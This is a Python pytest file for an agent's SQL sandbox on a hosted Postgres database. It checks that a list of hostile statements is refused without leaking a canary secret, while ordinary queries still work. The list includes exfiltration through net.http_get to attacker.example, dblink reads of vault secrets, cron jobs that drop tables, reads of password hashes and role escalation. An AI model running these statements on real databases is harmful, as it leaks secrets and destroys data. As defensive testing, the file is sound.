"""A database as hosted platforms hand it out, where PUBLIC and default privileges allow nearly everything."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest

from agent.check import open_sandbox
from agent.database import Database
from agent.execution import Completed, Request
from agent.introspect import introspect
from embedded.postgres import EmbeddedPostgres, temporary_postgres
from wire.outcome import Failed
from wire.policy import Policy, PolicyStack, parse_policy

CANARY = "CANARY"
POLICY = """
version = 1
name = "a hosted database"
default = "deny"
[schemas.public]
allow = true
[tables."public.profiles"]
deny_columns = ["phone"]
"""
ALLOWING = (
    POLICY
    + """
[tables."public.remote_orders"]
allow = true
[functions]
allow = ["public.with_vat"]
"""
)

OPEN = """
version = 1
name = "everything but what holds secrets"
default = "allow"
[schemas.auth]
allow = false
[schemas.vault]
allow = false
[schemas.cron]
allow = false
[schemas.net]
allow = false
[tables."public.profiles"]
deny_columns = ["phone"]
"""

HOSTILE = [
    # to other servers
    "SELECT * FROM extensions.dblink('host=127.0.0.1 dbname=postgres', 'SELECT 1') AS t (a integer)",
    "SELECT * FROM dblink('host=127.0.0.1', 'SELECT secret FROM vault.secrets') AS t (a text)",
    "SELECT extensions.dblink_connect('c', 'host=127.0.0.1')",
    "SELECT extensions.dblink_exec('host=127.0.0.1', 'DROP TABLE orders')",
    "SELECT extensions.dblink_send_query('c', 'SELECT 1')",
    "SELECT * FROM public.remote_orders",
    "SELECT count(*) FROM orders o JOIN remote_orders r ON r.id = o.id",
    "SELECT extensions.postgres_fdw_get_connections()",
    "SELECT extensions.postgres_fdw_disconnect_all()",
    "SELECT net.http_get('http://attacker.example/?' || 'x')",
    "SELECT (SELECT net.http_get('http://attacker.example/' || item)) FROM orders",
    "SELECT extensions.http_get('http://attacker.example/')",
    "SELECT count(*) FROM orders WHERE net.http_get(item) > 0",
    "SELECT item FROM orders ORDER BY net.http_get(item)",
    "SELECT * FROM net.http_request_queue",
    "SELECT * FROM net.http_get('http://attacker.example/')",
    # later, in the background
    "SELECT cron.schedule('* * * * *', 'DROP TABLE public.orders')",
    "SELECT count(*) FROM orders, cron.schedule('* * * * *', 'SELECT 1')",
    "SELECT * FROM cron.job",
    "SELECT public.count_all()",
    "SELECT count_all() FROM orders",
    "SELECT * FROM count_all()",
    # secrets
    "SELECT * FROM vault.decrypted_secrets",
    "SELECT decrypted_secret FROM vault.decrypted_secrets WHERE name = 'stripe'",
    "SELECT * FROM public.settings",
    "SELECT decrypted_secret FROM settings",
    "SELECT s FROM settings s",
    "SELECT row_to_json(s) FROM settings s",
    "SELECT extensions.pgp_sym_decrypt(secret, 'key') FROM vault.secrets",
    "SELECT extensions.pgp_sym_decrypt(convert_to(item, 'UTF8'), 'key') FROM orders",
    "SELECT extensions.crypt('x', extensions.gen_salt('bf', 31))",
    "SELECT extensions.gen_salt('bf', 31)",
    "SELECT extensions.gen_random_bytes(1000)",
    "SELECT * FROM auth.users",
    "SELECT encrypted_password FROM auth.users",
    "SELECT p.handle, u.email FROM profiles p JOIN auth.users u USING (id)",
    "SELECT auth.uid()",
    "SELECT phone FROM profiles",
    "SELECT (populate_record(p, hstore('handle', 'x'))).phone FROM profiles p",
    "SELECT srvoptions FROM pg_foreign_server",
    "SELECT umoptions FROM pg_user_mappings",
    "SELECT query FROM extensions.pg_stat_statements",
    "SELECT extensions.pg_stat_statements_reset()",
    # who one is
    "SET ROLE service_role",
    "SELECT set_config('role', 'service_role', true)",
    "SELECT set_config('request.jwt.claim.sub', 'a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11', true)",
    "SELECT current_setting('request.jwt.claim.sub', true)",
    # SQL in strings
    "SELECT * FROM extensions.crosstab('SELECT id, name, secret FROM vault.secrets') AS t (a int, b text)",
    "SELECT * FROM extensions.connectby('vault.secrets', 'id', 'id', '1', 0) AS t (a text, b text, c int)",
    "SELECT * FROM extensions.normal_rand(100000000, 1, 1)",
    # named like PostgreSQL's own
    "SELECT public.lower('x'::varchar)",
    "SELECT sum(1, 2)",
    # what default privileges allow
    "INSERT INTO orders (item) VALUES ('x')",
    "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
    "SELECT nextval('orders_id_seq')",
    "TRUNCATE orders",
    "DROP EVENT TRIGGER watch_ddl",
    "CREATE EXTENSION plpython3u",
]
LEGITIMATE = {
    "SELECT count(*), sum(total), max(placed) FROM orders": "50",
    "SELECT handle FROM profiles WHERE handle = 'ADA'": "Ada",
    "SELECT handle FROM profiles WHERE handle = 'ada'::citext": "Ada",
    "SELECT handle FROM profiles WHERE handle::text ILIKE 'ad%'": "Ada",
    "SELECT tags -> 'plan' FROM profiles": "pro",
    "SELECT handle FROM profiles WHERE tags @> 'plan=>pro'": "Ada",
    "SELECT handle FROM profiles WHERE tags ? 'lang'": "Ada",
    "SELECT handle FROM profiles WHERE place <@ 'eu.se'": "Ada",
    "SELECT place::text FROM profiles": "eu.se.lund",
    "SELECT body FROM notes": "shared",
    "SELECT date_trunc('month', placed) AS month, count(*) FROM orders GROUP BY month LIMIT 1": "2026",
    "SELECT count(*) FROM profiles p JOIN orders o ON o.owner = p.id": "50",
    "SELECT lower(item) FROM orders ORDER BY id LIMIT 1": "item 1",
    "SELECT extensions.similarity(handle::text, 'Ada') FROM profiles": "1",
    "SELECT handle FROM profiles WHERE handle % 'Ada'": "Ada",
    "SELECT extensions.unaccent('Lünd') FROM profiles": "Lund",
    "SELECT nlevel(place) FROM profiles": "3",
    "SELECT extensions.levenshtein(handle::text, 'Adam') FROM profiles": "1",
    # Whole rows are of what may be read.
    "SELECT p FROM profiles p": "Ada",
    "SELECT to_jsonb(p) FROM profiles p": "Ada",
    "SELECT public.hstore(p) FROM profiles p": "Ada",
    "SELECT hstore(p) ? 'phone' FROM profiles p": "f",
    # PostgreSQL's own function is called, whatever is named like it.
    "SELECT lower(item::varchar) FROM orders ORDER BY id LIMIT 1": "item 1",
    "SELECT lower('X'::varchar)": "x",
}
"""Questions, and something that the answer holds."""
NEEDS_LEAVE = {
    "SELECT with_vat(total) FROM orders ORDER BY id LIMIT 1": "12.5",
    "SELECT total FROM remote_orders": "",
}
"""What the policy must allow by name: the owner's own function, and a table of another server's."""


@pytest.fixture(scope="module")
def platform() -> Iterator[EmbeddedPostgres]:
    """The database ``platform`` on Debian's server, which has the extensions that the wheel's lacks."""
    with temporary_postgres("debian") as server:
        with psycopg.connect(server.dsn(), autocommit=True) as conn:
            conn.execute("CREATE DATABASE platform")
            conn.execute("ALTER DATABASE platform SET search_path = public, extensions")
        with psycopg.connect(server.dsn("platform")) as conn:
            conn.execute((Path(__file__).parent / "platform.sql").read_bytes())
        yield server


def state(server: EmbeddedPostgres) -> list[Any]:
    """What the hostile statements are after."""
    with psycopg.connect(server.dsn("platform")) as conn:
        return conn.execute(
            "SELECT (SELECT count(*) FROM cron.job), (SELECT count(*) FROM net.http_request_queue),"
            " (SELECT count(*) FROM orders), (SELECT last_value FROM orders_id_seq),"
            " (SELECT count(*) FROM pg_extension), (SELECT count(*) FROM pg_event_trigger)"
        ).fetchall()


@pytest.fixture(params=["reader", "superuser"])
def dsn(platform: EmbeddedPostgres, request: pytest.FixtureRequest) -> str:
    """As a role with all that the platform grants, and as one that nothing but the gate holds."""
    if request.param == "superuser":
        return platform.dsn("platform")
    return platform.dsn("platform", user="reader", password="read")


@pytest.mark.parametrize("text", [POLICY, OPEN], ids=["deny", "allow"])
async def test_nothing_of_what_is_installed_opens_a_way(
    platform: EmbeddedPostgres, dsn: str, text: str, make_sink: Any
) -> None:
    before, passed, leaked = state(platform), [], []
    async with open_sandbox(dsn, PolicyStack(owner=parse_policy(text))) as (_, sandbox):
        for sql in HOSTILE:
            sink = make_sink()
            outcome = await sandbox.execute(Request(sql), sink)
            if not isinstance(outcome, Failed):
                passed.append(sql)
            told = b"".join(sink.bodies).decode() + (
                outcome.message + outcome.hint if isinstance(outcome, Failed) else ""
            )
            if CANARY in told:
                leaked.append(sql)
    assert (passed, leaked) == ([], [])
    assert state(platform) == before


async def test_questions_about_extension_types_are_answered(
    platform: EmbeddedPostgres, make_sink: Any
) -> None:
    dsn = platform.dsn("platform", user="reader", password="read")
    async with open_sandbox(dsn, PolicyStack(owner=parse_policy(POLICY))) as (gate, sandbox):
        for sql, answer in LEGITIMATE.items():
            sink = make_sink()
            outcome = await sandbox.execute(Request(sql), sink)
            assert isinstance(outcome, Completed), (sql, outcome)
            assert answer in str(sink.values[0][0]), sql
        for sql in NEEDS_LEAVE:
            assert not (await gate.check(sql)).allowed, sql
    async with open_sandbox(dsn, PolicyStack(owner=parse_policy(ALLOWING))) as (gate, sandbox):
        for sql, answer in NEEDS_LEAVE.items():
            assert (await gate.check(sql)).allowed, sql
            if answer:
                sink = make_sink()
                outcome = await sandbox.execute(Request(sql), sink)
                assert isinstance(outcome, Completed), (sql, outcome)
                assert answer in str(sink.values[0][0]), sql


async def test_row_level_security_is_the_roles(platform: EmbeddedPostgres, make_sink: Any) -> None:
    """A role that row level security holds sees through the sandbox what it sees without, and no more."""
    dsn = platform.dsn("platform", user="reader", password="read")
    async with open_sandbox(dsn, PolicyStack(owner=parse_policy(POLICY))) as (_, sandbox):
        sink = make_sink()
        await sandbox.execute(Request("SELECT count(*) FROM notes"), sink)
    assert sink.values == [["1"]]


async def test_the_snapshot_names_nothing_of_the_platforms_own(platform: EmbeddedPostgres) -> None:
    policy: Policy = parse_policy(POLICY)
    dsn = platform.dsn("platform", user="reader", password="read")
    async with (
        open_sandbox(dsn, PolicyStack(owner=policy)) as (gate, _),
        Database(dsn, size=1) as database,
    ):
        snapshot = await introspect(database, policy, shown=gate.shown)
    tables = {table.qualified_name for table in snapshot.tables}
    assert {"public.orders", "public.profiles", "public.notes"} <= tables
    assert not tables & {"public.settings", "public.remote_orders"}
    assert not any(name.startswith(("vault.", "auth.", "cron.", "net.", "extensions.")) for name in tables)
    told = snapshot.model_dump_json()
    assert CANARY not in told
    assert "phone" not in told
